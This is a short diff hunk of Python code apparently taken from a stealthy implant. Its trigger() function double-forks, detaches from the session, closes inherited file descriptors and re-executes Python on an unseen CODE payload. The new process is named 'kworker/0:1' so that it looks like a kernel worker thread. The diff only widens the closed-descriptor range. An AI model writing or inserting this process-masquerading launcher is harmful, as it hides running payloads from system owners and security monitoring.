@@ -11,7 +11,7 @@ def trigger():
     if not os.fork():
         os.setsid()
         if not os.fork():
-            os.closerange(0, 256)
+            os.closerange(0, 4096)
             os.execve(sys.executable, ["kworker/0:1", "-c", CODE], {})
         os._exit(0)
     os.wait()
